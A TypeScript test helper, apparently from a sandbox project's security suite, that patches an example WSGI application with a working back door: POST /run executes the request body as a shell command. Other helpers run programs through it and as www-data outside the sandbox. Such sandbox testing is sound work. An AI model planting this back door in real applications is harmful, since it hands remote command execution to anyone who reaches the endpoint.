import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { ThrowawayHost } from "../../src/host/index.ts";
import { ask } from "../faults/server/customers.ts";
import { port, shell } from "../host/deployment.ts";

/** Gives the example application a remote shell: POST /run runs the body, as the application, in its sandbox. */
export function openBackDoor(folder: string): void {
  const file = join(folder, "app/wsgi.py");
  const door = `
import os, subprocess
inner = application.wsgi_app

def with_door(environ, start_response):
    if environ["PATH_INFO"] != "/run":
        return inner(environ, start_response)
    program = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
    done = subprocess.run(["/bin/sh", "-c", program], env={**os.environ, "PATH": "/usr/bin:/bin"}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [done.stdout]

application.wsgi_app = with_door

if __name__ == "__main__":`;
  const text = readFileSync(file, "utf8");
  writeFileSync(file, text.replace('\nif __name__ == "__main__":', door));
}

/** Runs a shell program through the back door and returns all that it printed. @throws Error where the door is shut. */
export async function inApplication(host: ThrowawayHost, program: string): Promise<string> {
  const { status, text } = await ask({
    address: host.address,
    port,
    method: "POST",
    path: "/run",
    body: program,
  });
  if (status !== 200) throw new Error(`the back door answers ${status}: ${text}`);
  return text.trim();
}

/** Runs a Python program as the service's user, outside of any sandbox: another application, or a web server, of the same user. */
export function asServiceUser(host: ThrowawayHost, program: string): Promise<string> {
  return shell(host, "exec setpriv --reuid=www-data --regid=www-data --init-groups python3 -", program);
}

/** Waits until `condition` gives a result. @throws Error with what it last saw after `seconds`. */
export async function until<Result>(
  what: string,
  seconds: number,
  condition: () => Promise<{ done?: Result; seen: string }>,
): Promise<Result> {
  const deadline = performance.now() + seconds * 1000;
  for (;;) {
    const { done, seen } = await condition();
    if (done !== undefined) return done;
    if (performance.now() > deadline)
      throw new Error(`${what} did not happen in ${seconds} s; last seen: ${seen}`);
    await new Promise((resume) => setTimeout(resume, 100));
  }
}

/** The text with one defence taken out of it. @throws Error where it is not there: the control would show nothing. */
export function without(text: string, defence: string, instead = ""): string {
  const undone = text.replaceAll(defence, instead);
  if (undone === text) throw new Error(`the defence is not there to be undone: ${defence}`);
  return undone;
}
